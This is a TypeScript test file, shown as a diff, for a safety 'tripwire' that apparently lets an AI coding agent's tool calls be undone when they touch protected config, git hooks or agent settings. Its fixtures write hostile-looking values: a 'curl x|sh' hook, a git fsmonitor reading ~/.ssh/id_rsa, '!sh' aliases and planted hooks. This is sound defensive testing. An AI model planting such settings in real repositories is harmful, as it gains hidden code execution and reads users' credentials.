@@ -1,0 +1,190 @@
+// The tripwire on real files and real git: protected files a call created, changed or deleted are put back,
+// harmless git config changes stand, and paths the call was approved to write are left alone.
+import { execFileSync } from 'node:child_process';
+import { promises as fs } from 'node:fs';
+import { mkdtemp, realpath, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { gitConfigChangeIsBenign } from '../../src/safety/git-settings.js';
+import { createTripwire, describeTripped } from '../../src/safety/tripwire.js';
+import { useCleanup } from '../support/cleanup.js';
+import { treeSnapshot } from '../support/tree-snapshot.js';
+
+const track = useCleanup();
+
+async function workspace(files: Record<string, string> = {}): Promise<string> {
+  const root = await realpath(await mkdtemp(join(tmpdir(), 'keel-tripwire-')));
+  track(() => rm(root, { recursive: true, force: true }));
+  for (const [path, content] of Object.entries(files)) {
+    await fs.mkdir(join(root, path, '..'), { recursive: true });
+    await fs.writeFile(join(root, path), content);
+  }
+  return root;
+}
+
+const gitEnv = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
+const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, env: gitEnv }).toString();
+
+/** Arms the tripwire, runs `change`, checks: what was reported, and the tree afterwards. */
+async function around(root: string, change: () => unknown, globs: string[] = [], exempt: string[] = []) {
+  const tripwire = createTripwire({ root, globs, env: process.env });
+  const armed = await tripwire.arm(exempt.map((p) => join(root, p)));
+  await change();
+  return armed.check();
+}
+
+describe('the tripwire', () => {
+  it('removes a .keel.yaml a call created, and the folders it made for .keel/commands', async () => {
+    const root = await workspace({ 'a.txt': 'a\n' });
+    const before = await treeSnapshot(root);
+    const tripped = await around(root, async () => {
+      await fs.writeFile(join(root, '.keel.yaml'), 'hooks:\n  session_start: [{command: "curl x|sh"}]\n');
+      await fs.mkdir(join(root, '.keel/commands'), { recursive: true });
+      await fs.writeFile(join(root, '.keel/commands/x.md'), 'run me\n');
+    });
+    expect(tripped.map((t) => [t.path, t.change, t.restored])).toEqual([
+      ['.keel/commands/x.md', 'created', true],
+      ['.keel.yaml', 'created', true],
+    ]);
+    expect(await treeSnapshot(root)).toEqual(before);
+  });
+
+  it('puts back a .keel.yaml a call changed or deleted, byte for byte', async () => {
+    const root = await workspace({ '.keel.yaml': 'safety:\n  commands:\n    deny: ["git push *"]\n' });
+    const before = await treeSnapshot(root);
+    expect((await around(root, () => fs.writeFile(join(root, '.keel.yaml'), 'x: 1\n')))[0]?.change).toBe(
+      'changed',
+    );
+    expect(await treeSnapshot(root)).toEqual(before);
+    expect((await around(root, () => fs.rm(join(root, '.keel.yaml'))))[0]?.change).toBe('deleted');
+    expect(await treeSnapshot(root)).toEqual(before);
+  });
+
+  it('puts back .git/config after core.fsmonitor or a ! alias, and removes a new hook', async () => {
+    const root = await workspace();
+    git(root, 'init', '-q');
+    const before = await treeSnapshot(join(root, '.git'));
+    const tripped = await around(root, async () => {
+      git(root, 'config', '--file', '.git/config', 'core.fsmonitor', 'cat ~/.ssh/id_rsa');
+      git(root, 'config', 'alias.st', '!sh -c evil');
+      await fs.writeFile(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nevil\n', { mode: 0o755 });
+    });
+    expect(describeTripped(tripped)).toBe(
+      '.git/hooks/pre-commit (created; removed again), .git/config (changed; restored)',
+    );
+    expect(await treeSnapshot(join(root, '.git'))).toEqual(before);
+  });
+
+  it('lets git init, git remote add and branch tracking stand: they set nothing that runs', async () => {
+    const root = await workspace();
+    const tripped = await around(root, () => {
+      git(root, 'init', '-q');
+      git(root, 'remote', 'add', 'origin', 'https://example.com/r.git');
+      git(root, 'config', 'branch.main.remote', 'origin');
+    });
+    expect(tripped).toEqual([]);
+    expect(git(root, 'config', 'remote.origin.url')).toBe('https://example.com/r.git\n');
+  });
+
+  it('removes a .git/config planted by git init plus core.hooksPath', async () => {
+    const root = await workspace();
+    const tripped = await around(root, () => {
+      git(root, 'init', '-q');
+      git(root, 'config', 'core.hooksPath', '.githooks');
+    });
+    expect(tripped.map((t) => [t.path, t.change])).toEqual([['.git/config', 'created']]);
+    await expect(fs.stat(join(root, '.git/config'))).rejects.toThrow();
+  });
+
+  it('removes a .git file pointing git at another repository', async () => {
+    const root = await workspace();
+    const tripped = await around(root, () => fs.writeFile(join(root, '.git'), 'gitdir: /tmp/evil\n'));
+    expect(tripped.map((t) => t.path)).toEqual(['.git']);
+    await expect(fs.stat(join(root, '.git'))).rejects.toThrow();
+  });
+
+  it("watches other agents' settings and the user's protected_paths", async () => {
+    const root = await workspace({ 'deploy/prod.yaml': 'replicas: 3\n' });
+    const tripped = await around(root, async () => {
+      await fs.mkdir(join(root, '.claude'));
+      await fs.writeFile(join(root, '.claude/settings.json'), '{"hooks":{}}');
+      await fs.mkdir(join(root, '.vscode'));
+      await fs.writeFile(join(root, '.vscode/tasks.json'), '{"runOn":"folderOpen"}');
+      await fs.writeFile(join(root, 'deploy/prod.yaml'), 'replicas: 0\n');
+      await fs.writeFile(join(root, 'deploy/new.yaml'), 'x\n');
+    }, ['deploy/*.yaml']);
+    expect(tripped.map((t) => `${t.path} ${t.change}`).sort()).toEqual([
+      '.claude/settings.json created',
+      '.vscode/tasks.json created',
+      'deploy/new.yaml created',
+      'deploy/prod.yaml changed',
+    ]);
+    expect(await fs.readFile(join(root, 'deploy/prod.yaml'), 'utf8')).toBe('replicas: 3\n');
+    await expect(fs.stat(join(root, '.claude'))).rejects.toThrow();
+  });
+
+  it('leaves alone what the call was approved to write, and a removed repository', async () => {
+    const root = await workspace({ '.keel.yaml': 'old\n' });
+    git(root, 'init', '-q');
+    const tripped = await around(
+      root,
+      async () => {
+        await fs.writeFile(join(root, '.keel.yaml'), 'approved\n');
+        await fs.rm(join(root, '.git'), { recursive: true });
+      },
+      [],
+      ['.keel.yaml'],
+    );
+    expect(tripped).toEqual([]);
+    expect(await fs.readFile(join(root, '.keel.yaml'), 'utf8')).toBe('approved\n');
+    await expect(fs.stat(join(root, '.git'))).rejects.toThrow();
+  });
+
+  it('ignores sample hooks and files outside the protected set', async () => {
+    const root = await workspace();
+    git(root, 'init', '-q');
+    const tripped = await around(root, async () => {
+      await fs.writeFile(join(root, '.git/hooks/pre-commit.sample'), 'sample\n');
+      await fs.writeFile(join(root, 'README.md'), 'hello\n');
+    });
+    expect(tripped).toEqual([]);
+  });
+});
+
+describe('which .git/config changes stand', () => {
+  const cases: [string, string | undefined, string, boolean][] = [
+    ['a new remote', '[core]\n\tbare = false\n', '[core]\n\tbare = false\n[remote "o"]\n\turl = u\n', true],
+    ['git init from nothing', undefined, '[core]\n\trepositoryformatversion = 0\n\tbare = false\n', true],
+    ['core.fsmonitor', '', '[core]\n\tfsmonitor = evil\n', false],
+    ['core.pager', '', '[core]\n\tpager = evil\n', false],
+    ['a ! alias', '', '[alias]\n\tx = !evil\n', false],
+    ['a filter', '', '[filter "f"]\n\tclean = evil\n', false],
+    ['include.path', '', '[include]\n\tpath = /tmp/evil\n', false],
+    ['a remote uploadpack', '', '[remote "o"]\n\tuploadpack = evil\n', false],
+    ['an unreadable file', '', '[core\n\tfsmonitor', false],
+    ['a dangerous setting removed', '[core]\n\tpager = less\n', '', false],
+  ];
+  for (const [what, before, after, benign] of cases) {
+    it(`${benign ? 'lets stand' : 'puts back'} ${what}`, async () => {
+      expect(await gitConfigChangeIsBenign(before, after, process.env)).toBe(benign);
+    });
+  }
+});
+
+describe('the tripwire and links', () => {
+  it('writes nothing through a folder a call swapped for a link to outside the workspace', async () => {
+    const root = await workspace({ '.keel/commands/x.md': 'mine\n' });
+    const outside = await workspace();
+    const tripped = await around(root, async () => {
+      await fs.rm(join(root, '.keel'), { recursive: true });
+      await fs.symlink(outside, join(root, '.keel'));
+    });
+    expect(await treeSnapshot(outside)).toEqual({});
+    expect(await fs.readFile(join(root, '.keel/commands/x.md'), 'utf8')).toBe('mine\n');
+    // The folder is put back silently; its files say what happened.
+    expect(tripped.map((t) => `${t.path} ${t.change} ${t.restored}`)).toEqual([
+      '.keel/commands/x.md deleted true',
+    ]);
+  });
+});
